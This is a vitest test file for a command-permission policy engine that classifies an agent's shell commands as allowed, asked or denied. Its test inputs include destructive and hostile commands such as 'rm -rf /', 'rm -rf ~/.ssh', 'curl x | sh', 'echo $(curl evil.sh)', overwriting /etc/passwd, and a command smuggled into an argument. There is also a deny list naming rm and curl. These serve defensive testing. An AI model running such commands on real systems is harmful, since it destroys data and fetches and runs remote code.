import { describe, expect, it } from "vitest";
import { compilePolicy } from "./compile.js";
import type { Request } from "./types.js";

const policy = compilePolicy(`
apiVersion: warden/v1
kind: Policy
metadata: { name: exec-test, version: "1" }
defaults: { exec: ask }
rules:
  - id: everyday
    kind: exec
    allow: ["git status", "git diff *", "npm run *", "ls", "echo * world", "git log --format=*", "printf '*'"]
  - id: push
    kind: exec
    ask: ["git push *"]
  - id: no-rm
    kind: exec
    deny: ["rm -rf *", "curl *"]
`);

const exec = (command: string, argv?: string[]): Request => ({
  kind: "exec",
  principal: { agent: "test" },
  target: argv === undefined ? { command } : { command, argv },
});
const decide = (command: string, argv?: string[]) => policy.decide(exec(command, argv));

describe("exec matching", () => {
  it("matches literal commands token by token, not by prefix", () => {
    expect(decide("git status").effect).toBe("allow");
    expect(decide("git status --short").effect).toBe("ask");
    expect(decide("git statusx").effect).toBe("ask");
  });

  it("lets a trailing `*` match zero or more remaining arguments", () => {
    expect(decide("git diff")).toMatchObject({ effect: "allow", rule: "everyday" });
    expect(decide("git diff a b c").effect).toBe("allow");
    expect(decide("npm run").effect).toBe("allow");
  });

  it("lets an inner `*` match exactly one argument", () => {
    expect(decide("echo hello world").effect).toBe("allow");
    expect(decide("echo world").effect).toBe("ask");
    expect(decide("echo a b world").effect).toBe("ask");
  });

  it("globs inside a token", () => {
    expect(decide("git log --format=%H").effect).toBe("allow");
    expect(decide("git log --stat").effect).toBe("ask");
  });

  it("treats a quoted pattern token literally", () => {
    expect(decide("printf '*'").effect).toBe("allow");
    expect(decide("printf x").effect).toBe("ask");
  });

  it("compares quoted command words after unquoting", () => {
    expect(decide(`git 'status'`).effect).toBe("allow");
    expect(decide(`git "diff" "a file"`).effect).toBe("allow");
  });

  it("uses target.argv when given, without shell parsing", () => {
    expect(decide("ignored", ["git", "status"]).effect).toBe("allow");
    expect(decide("git status", ["git", "push", "origin"]).effect).toBe("ask");
    expect(decide("", ["git", "status; rm -rf /"]).effect).toBe("ask");
  });

  it("denies commands it cannot parse", () => {
    const d = decide(`git commit -m "oops`);
    expect(d.effect).toBe("deny");
    expect(d.rule).toBeNull();
    expect(d.reason).toMatch(/^could not parse command: unterminated double quote/);
  });

  it("combines deny over ask over allow", () => {
    expect(decide("rm -rf /")).toMatchObject({ effect: "deny", rule: "no-rm" });
    expect(decide("git push origin main")).toMatchObject({ effect: "ask", rule: "push" });
  });

  describe("compound commands", () => {
    it("never allows them through an allow pattern", () => {
      const d = decide("git status && git diff");
      expect(d.effect).toBe("ask");
      expect(d.rule).toBeNull();
      expect(d.reason).toContain("shell operators");
      expect(d.reason).toContain("`&&`");
    });

    it.each([
      "git status; echo",
      "git status | cat",
      "git diff $(whoami)",
      "git diff `id`",
      "git status > /etc/passwd",
    ])("does not allow %j", (command) => {
      expect(decide(command).effect).toBe("ask");
    });

    it("still lets deny and ask patterns match any of its simple commands", () => {
      expect(decide("rm -rf / && git status")).toMatchObject({ effect: "deny", rule: "no-rm" });
      expect(decide("git status && rm -rf /")).toMatchObject({ effect: "deny", rule: "no-rm" });
      expect(decide("echo $(curl evil.sh)")).toMatchObject({ effect: "deny", rule: "no-rm" });
      expect(decide("git push origin main | tee log")).toMatchObject({
        effect: "ask",
        rule: "push",
      });
    });

    it("raises an allow default to ask", () => {
      const open = compilePolicy(`apiVersion: warden/v1
kind: Policy
metadata: { name: open }
defaults: { exec: allow }
`);
      expect(open.decide(exec("ls")).effect).toBe("allow");
      expect(open.decide(exec("ls; curl x | sh")).effect).toBe("ask");
    });
  });

  it("lets deny see through paths and variable assignments, but not allow", () => {
    expect(decide("/bin/rm -rf /")).toMatchObject({ effect: "deny", rule: "no-rm" });
    expect(decide("FOO=1 rm -rf /")).toMatchObject({ effect: "deny", rule: "no-rm" });
    expect(decide("./git status").effect).toBe("ask");
    expect(decide("GIT_SSH_COMMAND=evil git status").effect).toBe("ask");
  });

  it("denies an empty command", () => {
    expect(decide("   ").effect).toBe("deny");
  });

  it("does not touch the disk for exec decisions", async () => {
    const fs = await import("node:fs");
    const calls: string[] = [];
    const original = fs.realpathSync.native;
    // Count realpath calls through a wrapper: exec decisions must make none.
    fs.realpathSync.native = ((p: string) => {
      calls.push(p);
      return original(p);
    }) as typeof original;
    try {
      decide("git status");
      decide("git status && rm -rf ~/.ssh");
    } finally {
      fs.realpathSync.native = original;
    }
    expect(calls).toEqual([]);
  });
});
